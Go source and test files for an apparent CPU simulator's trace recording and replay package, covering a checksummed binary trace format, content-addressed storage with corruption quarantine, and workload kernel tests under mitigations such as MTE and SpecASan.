		t.Fatalf("load without SourceSHA: ok=%v err=%v", ok, err)
	}
}

// TestStoreLoadMislabelled plants a real trace under another identity's key:
// Load must refuse with ErrMislabelled rather than replay a stranger's
// stream.
func TestStoreLoadMislabelled(t *testing.T) {
	s, err := store.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	tr, _ := recordTestTrace(t)
	enc, err := tr.Encode()
	if err != nil {
		t.Fatal(err)
	}
	other := Identity{Workload: "someone-else", Threads: 4, Tagged: false, Scale: 0.5}
	if err := s.Put(other.StoreKey(), enc); err != nil {
		t.Fatal(err)
	}
	_, ok, err := Load(s, other)
	if ok || !errors.Is(err, ErrMislabelled) {
		t.Fatalf("mislabelled entry: ok=%v err=%v", ok, err)
	}
	if !IsCorrupt(err) {
		t.Fatalf("mislabel should count as corrupt (re-record): %v", err)
	}
}

// TestStoreQuarantinesCorruptEntry corrupts the stored bytes two ways: a
// disk-level flip (the store's own verification quarantines the file and
// the next load is a plain miss) and a store-valid-but-trace-garbage entry
// (the trace decoder rejects it with a structured error).
func TestStoreQuarantinesCorruptEntry(t *testing.T) {
	root := t.TempDir()
	s, err := store.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	tr, _ := recordTestTrace(t)
	if err := Save(s, tr); err != nil {
		t.Fatal(err)
	}
	id := testIdentity()
	key := id.StoreKey()

	// Disk-level flip: store verification catches it, quarantines the file.
	path := filepath.Join(root, key.Space, key.Name+".entry")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	raw[len(raw)-10] ^= 0x01
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	_, ok, err := Load(s, id)
	if ok || !errors.Is(err, store.ErrCorrupt) || !IsCorrupt(err) {
		t.Fatalf("flipped entry: ok=%v err=%v", ok, err)
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Fatal("corrupt entry not quarantined")
	}
	if _, ok, err := Load(s, id); ok || err != nil {
		t.Fatalf("post-quarantine load should be a plain miss: ok=%v err=%v", ok, err)
	}

	// Store-valid garbage: the trace decoder is the second line of defence.
	if err := s.Put(key, []byte("definitely not a trace")); err != nil {
		t.Fatal(err)
	}
	_, ok, err = Load(s, id)
	if ok || err == nil || !IsCorrupt(err) {
		t.Fatalf("garbage entry: ok=%v err=%v", ok, err)
	}
	// Re-recording heals the slot: Save overwrites, Load round-trips again.
	if err := Save(s, tr); err != nil {
		t.Fatal(err)
	}
	if _, ok, err := Load(s, id); !ok || err != nil {
		t.Fatalf("healed entry: ok=%v err=%v", ok, err)
	}
}

// TestFrontendRejectsOverlappingBlocks: overlapping code blocks pass the
// framing checks (each block is internally valid) but must be refused at
// frontend construction.
func TestFrontendRejectsOverlappingBlocks(t *testing.T) {
	tr, _ := recordTestTrace(t)
	if len(tr.Code) == 0 {
		t.Fatal("no code blocks")
	}
	dup := tr.Code[0]
	tr.Code = append(tr.Code, asm.CodeBlock{Addr: dup.Addr + 4, Insts: dup.Insts})
	if _, err := tr.Frontend(); !errors.Is(err, ErrFormat) {
		t.Fatalf("overlapping blocks: %v", err)
	}
}
