package trace

// Store integration: traces are content-addressed artifacts in the same
// crash-safe store that holds sweep cell results, under their own key
// space. The key is derived from the workload identity plus the format
// version — machine configuration and mitigation deliberately excluded, so
// one recording serves every scenario that runs the same workload build —
// and a format bump orphans old entries into re-recording instead of
// misreading them.

import (
	"encoding/json"
	"errors"
	"fmt"

	"specasan/internal/store"
)

// StoreSpace is the store key space trace artifacts live under. It is a
// fixed word, unlike cell results' result-hash spaces: a trace's validity
// does not depend on run semantics, only on the workload build identity
// baked into the key name.
const StoreSpace = "traces"

// StoreKey returns the store key for a trace with this identity. The name
// is a readable sanitized slug plus a 16-hex digest of the canonical
// identity (SourceSHA excluded — the point of replay is keying without
// generating source) and format version, mirroring scenario.CellKey's
// slug+digest shape.
func (id Identity) StoreKey() store.Key {
	canon := struct {
		Workload string  `json:"workload"`
		Threads  int     `json:"threads"`
		Tagged   bool    `json:"tagged"`
		Scale    float64 `json:"scale"`
		Version  int     `json:"version"`
	}{id.Workload, id.Threads, id.Tagged, id.Scale, Version}
	b, err := json.Marshal(&canon)
	if err != nil {
		// Marshalling a struct of scalars cannot fail; keep the signature
		// ergonomic for callers.
		panic(fmt.Sprintf("trace: identity marshal: %v", err))
	}
	return store.Key{Space: StoreSpace, Name: sanitize(id.Workload) + "-" + SHA256Hex(b)[:16]}
}

// sanitize maps a workload name onto the store's key alphabet, exactly as
// scenario cell keys are sanitized (this package cannot import scenario:
// workloads imports trace and scenario imports workloads).
func sanitize(raw string) string {
	const maxLen = 100
	out := make([]byte, 0, len(raw))
	for i := 0; i < len(raw) && len(out) < maxLen; i++ {
		c := raw[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9',
			c == '.', c == '_', c == '-':
			out = append(out, c)
		default:
			out = append(out, '_')
		}
	}
	if len(out) == 0 || out[0] == '.' || out[0] == '-' {
		out = append([]byte{'t'}, out...)
	}
	return string(out)
}

// Save writes the trace into the store under its identity key.
func Save(s *store.Store, t *Trace) error {
	b, err := t.Encode()
	if err != nil {
		return err
	}
	return s.Put(t.Meta.StoreKey(), b)
}

// Load fetches and decodes the trace recorded under id. A plain miss is
// (nil, false, nil). A stored entry that fails the store's own verification
// has already been quarantined by the store; it reports as a miss with the
// store's error. An entry that decodes but carries a different identity is
// rejected with ErrMislabelled — the caller must re-record, not replay a
// stranger's stream.
func Load(s *store.Store, id Identity) (*Trace, bool, error) {
	key := id.StoreKey()
	b, ok, err := s.Get(key)
	if !ok {
		return nil, false, err
	}
	t, err := Decode(b)
	if err != nil {
		return nil, false, fmt.Errorf("%s: %w", key, err)
	}
	if got, want := t.Meta.Identity, id; !got.Same(want) {
		return nil, false, fmt.Errorf("%w: %s holds %s (threads=%d tagged=%v scale=%g), looked up as %s (threads=%d tagged=%v scale=%g)",
			ErrMislabelled, key,
			got.Workload, got.Threads, got.Tagged, got.Scale,
			want.Workload, want.Threads, want.Tagged, want.Scale)
	}
	return t, true, nil
}

// IsCorrupt reports whether err is a store- or trace-level integrity
// failure (as opposed to a miss or an I/O error): the caller should
// re-record and may log the quarantine.
func IsCorrupt(err error) bool {
	return errors.Is(err, store.ErrCorrupt) || errors.Is(err, ErrChecksum) ||
		errors.Is(err, ErrTruncated) || errors.Is(err, ErrFormat) ||
		errors.Is(err, ErrVersion) || errors.Is(err, ErrMislabelled)
}
