package trace

// The on-disk trace format: a magic+version header, four length-framed
// sections each carrying its own SHA-256, and a whole-file SHA-256 trailer.
//
//	offset  contents
//	0       magic "SATRACE" + one version byte (Version)
//	8       section 1: meta    — tag, u64 payload length, JSON payload, sha256
//	...     section 2: code    — decoded instructions, compact binary
//	...     section 3: data    — data blocks, raw bytes
//	...     section 4: dynamic — output + touch stream, delta/varint coded
//	end-32  sha256 over every preceding byte
//
// Sections appear in exactly this order. Per-section checksums localise a
// flip to the section it corrupted; the trailer catches truncation after a
// complete section and any tampering with the framing itself. Integers are
// little-endian; instruction immediates and touch address deltas are
// zigzag varints, which keeps real traces a few bytes per instruction.
//
// Every decode failure maps onto one of the structured sentinel errors
// below, so callers (and the robustness tests) can tell a truncated file
// from a bit-flipped one from a mislabelled one with errors.Is.

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"os"

	"specasan/internal/asm"
	"specasan/internal/isa"
)

// Version is the trace format version this package reads and writes. Bump
// it when any section layout changes; older files then fail with ErrVersion
// and are re-recorded.
const Version = 1

// magic opens every trace file; the eighth byte is the format version.
var magic = [8]byte{'S', 'A', 'T', 'R', 'A', 'C', 'E', Version}

// Structured decode errors. Decode and ReadFile wrap these sentinels, so
// errors.Is distinguishes the failure classes.
var (
	// ErrFormat marks a file that is not a trace, or whose framing or
	// section contents are malformed.
	ErrFormat = errors.New("trace: malformed")
	// ErrVersion marks a trace written by an incompatible format version.
	ErrVersion = errors.New("trace: unsupported format version")
	// ErrTruncated marks a file that ends before its framing says it may.
	ErrTruncated = errors.New("trace: truncated")
	// ErrChecksum marks a section or file whose bytes do not match their
	// recorded SHA-256 — a bit flip somewhere between write and read.
	ErrChecksum = errors.New("trace: checksum mismatch")
	// ErrMislabelled marks a trace whose recorded identity does not match
	// the identity it was looked up under.
	ErrMislabelled = errors.New("trace: workload identity mismatch")
)

// Section tags, in required file order.
const (
	secMeta    = 1
	secCode    = 2
	secData    = 3
	secDynamic = 4
)

const sumLen = sha256.Size

// zigzag folds signed integers into unsigned varint-friendly form.
func zigzag(v int64) uint64   { return uint64(v<<1) ^ uint64(v>>63) }
func unzigzag(u uint64) int64 { return int64(u>>1) ^ -int64(u&1) }

// Encode serialises the trace.
func (t *Trace) Encode() ([]byte, error) {
	metaPayload, err := json.Marshal(&t.Meta)
	if err != nil {
		return nil, fmt.Errorf("trace: encode meta: %w", err)
	}
	var buf []byte
	buf = append(buf, magic[:]...)
	buf = appendSection(buf, secMeta, metaPayload)
	buf = appendSection(buf, secCode, encodeCode(t.Code))
	buf = appendSection(buf, secData, encodeData(t.Data))
	buf = appendSection(buf, secDynamic, encodeDynamic(t.Output, t.Touches))
	sum := sha256.Sum256(buf)
	return append(buf, sum[:]...), nil
}

func appendSection(buf []byte, tag byte, payload []byte) []byte {
	buf = append(buf, tag)
	buf = binary.LittleEndian.AppendUint64(buf, uint64(len(payload)))
	buf = append(buf, payload...)
	sum := sha256.Sum256(payload)
	return append(buf, sum[:]...)
}

// Decode parses a serialised trace, verifying the whole-file trailer and
// every section checksum.
func Decode(b []byte) (*Trace, error) {
	if len(b) < len(magic)+sumLen {
		return nil, fmt.Errorf("%w: %d bytes is smaller than any trace", ErrTruncated, len(b))
	}
	if !bytes.Equal(b[:7], magic[:7]) {
		return nil, fmt.Errorf("%w: bad magic", ErrFormat)
	}
	if b[7] != Version {
		return nil, fmt.Errorf("%w: file version %d, this build reads %d", ErrVersion, b[7], Version)
	}
	body, trailer := b[:len(b)-sumLen], b[len(b)-sumLen:]
	sum := sha256.Sum256(body)
	if !bytes.Equal(sum[:], trailer) {
		return nil, fmt.Errorf("%w: file trailer", ErrChecksum)
	}

	t := &Trace{}
	rest := body[len(magic):]
	for _, want := range []struct {
		tag   byte
		parse func(*Trace, []byte) error
	}{
		{secMeta, parseMeta},
		{secCode, parseCode},
		{secData, parseData},
		{secDynamic, parseDynamic},
	} {
		payload, rem, err := readSection(rest, want.tag)
		if err != nil {
			return nil, err
		}
		if err := want.parse(t, payload); err != nil {
			return nil, err
		}
		rest = rem
	}
	if len(rest) != 0 {
		return nil, fmt.Errorf("%w: %d trailing bytes after last section", ErrFormat, len(rest))
	}
	return t, nil
}

func readSection(b []byte, wantTag byte) (payload, rest []byte, err error) {
	if len(b) < 1+8 {
		return nil, nil, fmt.Errorf("%w: section %d header", ErrTruncated, wantTag)
	}
	if b[0] != wantTag {
		return nil, nil, fmt.Errorf("%w: section tag %d where %d expected", ErrFormat, b[0], wantTag)
	}
	n := binary.LittleEndian.Uint64(b[1:9])
	b = b[9:]
	if uint64(len(b)) < n+sumLen {
		return nil, nil, fmt.Errorf("%w: section %d payload (%d of %d bytes)", ErrTruncated, wantTag, len(b), n+sumLen)
	}
	payload, sumBytes, rest := b[:n], b[n:n+sumLen], b[n+sumLen:]
	sum := sha256.Sum256(payload)
	if !bytes.Equal(sum[:], sumBytes) {
		return nil, nil, fmt.Errorf("%w: section %d", ErrChecksum, wantTag)
	}
	return payload, rest, nil
}

func parseMeta(t *Trace, payload []byte) error {
	dec := json.NewDecoder(bytes.NewReader(payload))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&t.Meta); err != nil {
		return fmt.Errorf("%w: meta: %v", ErrFormat, err)
	}
	return nil
}

// ------------------------------------------------------------------ code --

// instFlagHasImm is the only Inst flag bit today; further bits are reserved
// and must decode as zero under the current version.
const instFlagHasImm = 1 << 0

func encodeCode(blocks []asm.CodeBlock) []byte {
	var buf []byte
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(blocks)))
	for _, b := range blocks {
		buf = binary.LittleEndian.AppendUint64(buf, b.Addr)
		buf = binary.LittleEndian.AppendUint32(buf, uint32(len(b.Insts)))
		for i := range b.Insts {
			in := &b.Insts[i]
			var flags byte
			if in.HasImm {
				flags |= instFlagHasImm
			}
			buf = append(buf, byte(in.Op), byte(in.Cond), byte(in.Rd), byte(in.Rn), byte(in.Rm), flags)
			buf = binary.AppendUvarint(buf, zigzag(in.Imm))
			buf = binary.AppendUvarint(buf, zigzag(in.Imm2))
		}
	}
	return buf
}

func parseCode(t *Trace, payload []byte) error {
	r := &reader{b: payload, sec: "code"}
	nb := r.u32()
	// Cap sanity: a count that cannot fit in the remaining payload is
	// framing corruption, not an allocation request.
	if uint64(nb) > uint64(len(payload)) {
		return fmt.Errorf("%w: code: block count %d exceeds payload", ErrFormat, nb)
	}
	blocks := make([]asm.CodeBlock, 0, nb)
	for i := uint32(0); i < nb; i++ {
		addr := r.u64()
		n := r.u32()
		if uint64(n)*6 > uint64(len(payload)) {
			return fmt.Errorf("%w: code: instruction count %d exceeds payload", ErrFormat, n)
		}
		insts := make([]isa.Inst, n)
		for j := uint32(0); j < n; j++ {
			var fixed [6]byte
			r.bytes(fixed[:])
			if fixed[5]&^instFlagHasImm != 0 {
				return fmt.Errorf("%w: code: reserved inst flag bits %#x", ErrFormat, fixed[5])
			}
			in := &insts[j]
			in.Op = isa.Op(fixed[0])
			in.Cond = isa.Cond(fixed[1])
			in.Rd = isa.Reg(fixed[2])
			in.Rn = isa.Reg(fixed[3])
			in.Rm = isa.Reg(fixed[4])
			in.HasImm = fixed[5]&instFlagHasImm != 0
			in.Imm = unzigzag(r.uvarint())
			in.Imm2 = unzigzag(r.uvarint())
			if in.Op >= isa.NumOps {
				return fmt.Errorf("%w: code: op %d out of range", ErrFormat, in.Op)
			}
		}
		blocks = append(blocks, asm.CodeBlock{Addr: addr, Insts: insts})
	}
	if err := r.done(); err != nil {
		return err
	}
	t.Code = blocks
	return nil
}

// ------------------------------------------------------------------ data --

func encodeData(blocks []asm.DataBlock) []byte {
	var buf []byte
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(blocks)))
	for _, b := range blocks {
		buf = binary.LittleEndian.AppendUint64(buf, b.Addr)
		buf = binary.LittleEndian.AppendUint64(buf, uint64(len(b.Bytes)))
		buf = append(buf, b.Bytes...)
	}
	return buf
}

func parseData(t *Trace, payload []byte) error {
	r := &reader{b: payload, sec: "data"}
	nb := r.u32()
	if uint64(nb) > uint64(len(payload)) {
		return fmt.Errorf("%w: data: block count %d exceeds payload", ErrFormat, nb)
	}
	blocks := make([]asm.DataBlock, 0, nb)
	for i := uint32(0); i < nb; i++ {
		addr := r.u64()
		n := r.u64()
		if n > uint64(len(payload)) {
			return fmt.Errorf("%w: data: block length %d exceeds payload", ErrFormat, n)
		}
		bts := make([]byte, n)
		r.bytes(bts)
		blocks = append(blocks, asm.DataBlock{Addr: addr, Bytes: bts})
	}
	if err := r.done(); err != nil {
		return err
	}
	t.Data = blocks
	return nil
}

// --------------------------------------------------------------- dynamic --

// Touch flag bits in the dynamic section.
const (
	touchFlagWrite  = 1 << 0
	touchFlagIfetch = 1 << 1
)

func encodeDynamic(output []byte, touches []Touch) []byte {
	var buf []byte
	buf = binary.LittleEndian.AppendUint64(buf, uint64(len(output)))
	buf = append(buf, output...)
	buf = binary.LittleEndian.AppendUint64(buf, uint64(len(touches)))
	var prev uint64
	for _, tc := range touches {
		var flags byte
		if tc.Write {
			flags |= touchFlagWrite
		}
		if tc.IFetch {
			flags |= touchFlagIfetch
		}
		buf = append(buf, flags)
		buf = binary.AppendUvarint(buf, zigzag(int64(tc.Addr-prev)))
		prev = tc.Addr
	}
	return buf
}

func parseDynamic(t *Trace, payload []byte) error {
	r := &reader{b: payload, sec: "dynamic"}
	on := r.u64()
	if on > uint64(len(payload)) {
		return fmt.Errorf("%w: dynamic: output length %d exceeds payload", ErrFormat, on)
	}
	out := make([]byte, on)
	r.bytes(out)
	nt := r.u64()
	if nt > uint64(len(payload)) {
		return fmt.Errorf("%w: dynamic: touch count %d exceeds payload", ErrFormat, nt)
	}
	touches := make([]Touch, 0, nt)
	var prev uint64
	for i := uint64(0); i < nt; i++ {
		flags := r.u8()
		if flags&^(touchFlagWrite|touchFlagIfetch) != 0 {
			return fmt.Errorf("%w: dynamic: reserved touch flag bits %#x", ErrFormat, flags)
		}
		addr := prev + uint64(unzigzag(r.uvarint()))
		prev = addr
		touches = append(touches, Touch{
			Addr:   addr,
			Write:  flags&touchFlagWrite != 0,
			IFetch: flags&touchFlagIfetch != 0,
		})
	}
	if err := r.done(); err != nil {
		return err
	}
	if len(out) > 0 {
		t.Output = out
	}
	if len(touches) > 0 {
		t.Touches = touches
	}
	return nil
}

// ---------------------------------------------------------------- reader --

// reader is a bounds-tracking cursor over one section payload. Running off
// the end or leaving bytes behind sets err; every read after an error is a
// no-op returning zero, so parse loops stay straight-line and report once.
type reader struct {
	b   []byte
	sec string
	err error
}

func (r *reader) fail() {
	if r.err == nil {
		r.err = fmt.Errorf("%w: %s section ends mid-record", ErrTruncated, r.sec)
	}
}

func (r *reader) u8() byte {
	if r.err != nil || len(r.b) < 1 {
		r.fail()
		return 0
	}
	v := r.b[0]
	r.b = r.b[1:]
	return v
}

func (r *reader) u32() uint32 {
	if r.err != nil || len(r.b) < 4 {
		r.fail()
		return 0
	}
	v := binary.LittleEndian.Uint32(r.b)
	r.b = r.b[4:]
	return v
}

func (r *reader) u64() uint64 {
	if r.err != nil || len(r.b) < 8 {
		r.fail()
		return 0
	}
	v := binary.LittleEndian.Uint64(r.b)
	r.b = r.b[8:]
	return v
}

func (r *reader) uvarint() uint64 {
	if r.err != nil {
		return 0
	}
	v, n := binary.Uvarint(r.b)
	if n <= 0 {
		r.fail()
		return 0
	}
	r.b = r.b[n:]
	return v
}

func (r *reader) bytes(dst []byte) {
	if r.err != nil || len(r.b) < len(dst) {
		r.fail()
		return
	}
	copy(dst, r.b)
	r.b = r.b[len(dst):]
}

func (r *reader) done() error {
	if r.err != nil {
		return r.err
	}
	if len(r.b) != 0 {
		return fmt.Errorf("%w: %s section has %d trailing bytes", ErrFormat, r.sec, len(r.b))
	}
	return nil
}

// WriteFile serialises the trace to path (0644).
func (t *Trace) WriteFile(path string) error {
	b, err := t.Encode()
	if err != nil {
		return err
	}
	return os.WriteFile(path, b, 0o644)
}

// ReadFile loads and verifies a trace file.
func ReadFile(path string) (*Trace, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("trace: %w", err)
	}
	t, err := Decode(b)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	return t, nil
}
