// Package trace records and replays workload instruction streams: the
// artifact behind the record-once/replay-many frontier. A trace is produced
// by one functional walk on the golden interpreter and carries everything a
// simulator frontend needs to reproduce the live-decode run bit for bit:
//
//   - the static sections — code blocks (decoded instructions), data blocks,
//     labels, and the entry PC — reconstruct the assembled program exactly.
//     Static code is mandatory for exactness: the out-of-order machine
//     speculatively fetches down wrong paths the committed dynamic stream
//     never visits, so a purely dynamic trace could not feed its front end.
//   - the dynamic sections — the functional walk's retirement count, stop
//     reason, program output, and its most recent memory/tag touches —
//     validate a replay against the recording and warm caches after a
//     fast-forward transplant, exactly as live sampled runs do.
//
// Traces serialise to a versioned, compact, checksummed binary format
// (format.go) and live as content-addressed artifacts in internal/store
// under the "traces" space, keyed by workload identity (store.go), so one
// recording serves every sim, bench, serve, and sampled run of the same
// workload build.
package trace

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"

	"specasan/internal/asm"
	"specasan/internal/golden"
	"specasan/internal/isa"
	"specasan/internal/mem"
)

// Identity pins which workload build a trace replays: the same fields that
// select a generator recipe, plus the flags that change its emitted code.
// Two builds with equal identities produce byte-identical programs (the
// generators are deterministic), which is what makes the store key sound.
type Identity struct {
	// Workload is the registry name (e.g. "505.mcf_r") or a caller-chosen
	// label for file workloads.
	Workload string `json:"workload"`
	// Threads is the SPMD thread count the program was generated for.
	Threads int `json:"threads"`
	// Tagged reports whether the build included MTE tag setup (it differs
	// per mitigation: MTE-backed policies build tagged programs).
	Tagged bool `json:"tagged"`
	// Scale is the workload scale factor the build used.
	Scale float64 `json:"scale"`
	// SourceSHA is the sha256 of the assembly text the trace was recorded
	// from. It is advisory — not part of the store key, so replay can skip
	// source generation — but lets a caller who has the source detect
	// generator drift instead of replaying stale code.
	SourceSHA string `json:"source_sha,omitempty"`
}

// Same reports whether two identities name the same workload build.
// SourceSHA is advisory provenance and excluded — it is absent from the
// store key for the same reason (replay must not need the source).
func (id Identity) Same(other Identity) bool {
	return id.Workload == other.Workload && id.Threads == other.Threads &&
		id.Tagged == other.Tagged && id.Scale == other.Scale
}

// Meta is a trace's self-description: its identity plus what the recording
// functional walk observed. It rides in the trace file's first section and
// is the mislabel check on load.
type Meta struct {
	Identity
	// Entry is the architectural start address.
	Entry uint64 `json:"entry"`
	// Insts is how many instructions the recording walk retired.
	Insts uint64 `json:"insts"`
	// Stop is the recording walk's stop reason (golden.StopReason string).
	Stop string `json:"stop"`
	// ExitCode is X0 at exit when Stop is "exit".
	ExitCode uint64 `json:"exit_code,omitempty"`
	// OutputSHA is the sha256 of the recorded program output; replays
	// validate against it without storing the output twice.
	OutputSHA string `json:"output_sha,omitempty"`
	// Labels preserves the program's label map for diagnostics and
	// label-addressed tooling.
	Labels map[string]uint64 `json:"labels,omitempty"`
}

// Touch is one recorded memory touch of the functional walk: a load, store,
// or basic-block instruction fetch, key-stripped and 4-byte aligned (the
// golden.TouchRing encoding).
type Touch struct {
	Addr   uint64
	Write  bool
	IFetch bool
}

// Trace is one recorded workload stream in memory.
type Trace struct {
	Meta Meta
	// Code and Data are deep copies of the recorded program's static
	// sections; reconstructing a Program from them is exact.
	Code []asm.CodeBlock
	Data []asm.DataBlock
	// Output is the program output the recording walk produced.
	Output []byte
	// Touches are the walk's most recent memory touches, oldest first —
	// the cache-warming stream for post-transplant sampled replay.
	Touches []Touch
}

// Program reconstructs the assembled program the trace was recorded from:
// code, data, labels and entry are exact copies, and every instruction is
// re-Decoded the way asm.Assemble decodes after fixup, so the pipeline sees
// identical operand caches. The returned program shares no storage with the
// trace.
func (t *Trace) Program() *asm.Program {
	p := &asm.Program{Entry: t.Meta.Entry}
	p.Code = make([]asm.CodeBlock, len(t.Code))
	for i, b := range t.Code {
		insts := make([]isa.Inst, len(b.Insts))
		copy(insts, b.Insts)
		for j := range insts {
			insts[j].Decode()
		}
		p.Code[i] = asm.CodeBlock{Addr: b.Addr, Insts: insts}
	}
	p.Data = make([]asm.DataBlock, len(t.Data))
	for i, b := range t.Data {
		p.Data[i] = asm.DataBlock{Addr: b.Addr, Bytes: append([]byte(nil), b.Bytes...)}
	}
	if len(t.Meta.Labels) > 0 {
		p.Labels = make(map[string]uint64, len(t.Meta.Labels))
		for k, v := range t.Meta.Labels {
			p.Labels[k] = v
		}
	}
	return p
}

// WarmRing rebuilds the recorded touch stream as a golden.TouchRing sized to
// its contents, ready for cpu.Machine.WarmCaches. Returns nil when the trace
// recorded no touches.
func (t *Trace) WarmRing() *golden.TouchRing {
	if len(t.Touches) == 0 {
		return nil
	}
	r := golden.NewTouchRing(len(t.Touches))
	for _, tc := range t.Touches {
		r.Add(tc.Addr, tc.Write, tc.IFetch)
	}
	return r
}

// TraceFrontend replays a recorded trace as a machine instruction stream. It
// satisfies both cpu.Frontend and golden.Source structurally, so one loaded
// trace drives the cycle-accurate machine, the functional interpreter, and
// the transplant seam. Lookup is a binary search over the (sorted) code
// blocks plus an index within the block — O(log blocks) per fetch, no
// per-call allocation, safe for concurrent readers.
type TraceFrontend struct {
	trace *Trace
	prog  *asm.Program
	// starts/ends frame each code block's address range, ascending.
	starts []uint64
	ends   []uint64
	blocks [][]isa.Inst
}

// Frontend builds the replay frontend for the trace. It fails on overlapping
// or unsorted-unfixable code blocks (a malformed trace that Decode's framing
// checks cannot see).
func (t *Trace) Frontend() (*TraceFrontend, error) {
	p := t.Program()
	f := &TraceFrontend{
		trace:  t,
		prog:   p,
		starts: make([]uint64, len(p.Code)),
		ends:   make([]uint64, len(p.Code)),
		blocks: make([][]isa.Inst, len(p.Code)),
	}
	order := make([]int, len(p.Code))
	for i := range order {
		order[i] = i
	}
	sort.Slice(order, func(a, b int) bool { return p.Code[order[a]].Addr < p.Code[order[b]].Addr })
	for i, idx := range order {
		b := &p.Code[idx]
		f.starts[i] = b.Addr
		f.ends[i] = b.Addr + uint64(len(b.Insts))*isa.InstBytes
		f.blocks[i] = b.Insts
		if i > 0 && f.starts[i] < f.ends[i-1] {
			return nil, fmt.Errorf("%w: code blocks overlap at %#x", ErrFormat, f.starts[i])
		}
	}
	return f, nil
}

// Trace returns the trace the frontend replays.
func (f *TraceFrontend) Trace() *Trace { return f.trace }

// Program returns the reconstructed program backing the frontend.
func (f *TraceFrontend) Program() *asm.Program { return f.prog }

// EntryPC implements the frontend contract.
func (f *TraceFrontend) EntryPC() uint64 { return f.prog.Entry }

// block returns the index of the code block containing pc, or -1.
func (f *TraceFrontend) block(pc uint64) int {
	i := sort.Search(len(f.starts), func(i int) bool { return f.ends[i] > pc })
	if i == len(f.starts) || pc < f.starts[i] || (pc-f.starts[i])%isa.InstBytes != 0 {
		return -1
	}
	return i
}

// InstAt implements the frontend contract.
func (f *TraceFrontend) InstAt(pc uint64) *isa.Inst {
	i := f.block(pc)
	if i < 0 {
		return nil
	}
	return &f.blocks[i][(pc-f.starts[i])/isa.InstBytes]
}

// InstsFrom implements the frontend contract.
func (f *TraceFrontend) InstsFrom(pc uint64) []isa.Inst {
	i := f.block(pc)
	if i < 0 {
		return nil
	}
	return f.blocks[i][(pc-f.starts[i])/isa.InstBytes:]
}

// InitImage implements the frontend contract: the trace's data blocks load
// exactly as mem.Image.LoadProgram loads an assembled program's.
func (f *TraceFrontend) InitImage(img *mem.Image) { img.LoadProgram(f.prog) }

// SHA256Hex is the hashing helper identity and meta fields use; exposed so
// callers labelling traces (source text, output) hash the same way.
func SHA256Hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
