package workloads

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

func TestAllKernelsAssemble(t *testing.T) {
	for _, s := range append(SPEC(), PARSEC()...) {
		for _, tagged := range []bool{false, true} {
			if _, err := s.Build(tagged, 0.1); err != nil {
				t.Errorf("%s (tagged=%v): %v", s.Name, tagged, err)
			}
		}
	}
}

func TestSuitesComplete(t *testing.T) {
	if n := len(SPEC()); n != 15 {
		t.Errorf("SPEC kernels = %d, want 15 (Figure 9 set)", n)
	}
	if n := len(PARSEC()); n != 7 {
		t.Errorf("PARSEC kernels = %d, want 7 (Figure 7 set)", n)
	}
	for _, s := range SPEC() {
		if s.Threads != 1 {
			t.Errorf("%s: SPEC kernels are single-threaded", s.Name)
		}
	}
	for _, s := range PARSEC() {
		if s.Threads != 4 {
			t.Errorf("%s: PARSEC kernels run 4 threads", s.Name)
		}
	}
	if ByName("505.mcf_r") == nil || ByName("canneal") == nil {
		t.Error("ByName lookup failed")
	}
	if ByName("nonexistent") != nil {
		t.Error("ByName should return nil for unknown names")
	}
}

// TestKernelsMatchGolden: every kernel must produce identical architectural
// state on the OoO core and the reference interpreter (small scale).
func TestKernelsMatchGolden(t *testing.T) {
	for _, s := range SPEC()[:4] {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			prog, err := s.Build(false, 0.05)
			if err != nil {
				t.Fatal(err)
			}
			m, err := cpu.NewMachine(core.DefaultConfig(), core.Unsafe, prog)
			if err != nil {
				t.Fatal(err)
			}
			mres := m.Run(20_000_000)
			if mres.TimedOut {
				t.Fatalf("timed out: %v", mres)
			}
			ip := golden.New(prog)
			ip.TagSeed = cpu.TagSeedBase
			gres := ip.Run(20_000_000)
			if gres.Reason != golden.StopExit {
				t.Fatalf("golden: %v", gres.Reason)
			}
			for r := isa.Reg(0); r < isa.NumRegs; r++ {
				if r == isa.XZR {
					continue
				}
				if got, want := m.Core(0).Reg(r), gres.Regs[r]; got != want {
					t.Errorf("%v = %#x, want %#x", r, got, want)
				}
			}
		})
	}
}

// TestTaggedKernelRunsUnderMTE: the tagged build must complete without tag
// faults under MTE and SpecASan (benign code never violates its own tags).
func TestTaggedKernelRunsUnderMTE(t *testing.T) {
	for _, mit := range []core.Mitigation{core.MTE, core.SpecASan} {
		s := ByName("511.povray_r")
		prog, err := s.Build(true, 0.05)
		if err != nil {
			t.Fatal(err)
		}
		m, err := cpu.NewMachine(core.DefaultConfig(), mit, prog)
		if err != nil {
			t.Fatal(err)
		}
		res := m.Run(20_000_000)
		if res.TimedOut || res.Faulted {
			t.Fatalf("%v: %v (faultPC=%#x)", mit, res, m.Core(0).FaultPC)
		}
	}
}

// TestMultiThreadedKernelRuns: a PARSEC kernel on 4 cores completes and all
// cores commit work.
func TestMultiThreadedKernelRuns(t *testing.T) {
	s := ByName("swaptions")
	prog, err := s.Build(false, 0.05)
	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = 4
	m, err := cpu.NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 4; i++ {
		m.Core(i).SetReg(isa.X0, uint64(i))
	}
	res := m.Run(20_000_000)
	if res.TimedOut {
		t.Fatalf("timed out: %v", res)
	}
	for i := 0; i < 4; i++ {
		if m.Core(i).Committed() == 0 {
			t.Errorf("core %d committed nothing", i)
		}
	}
}

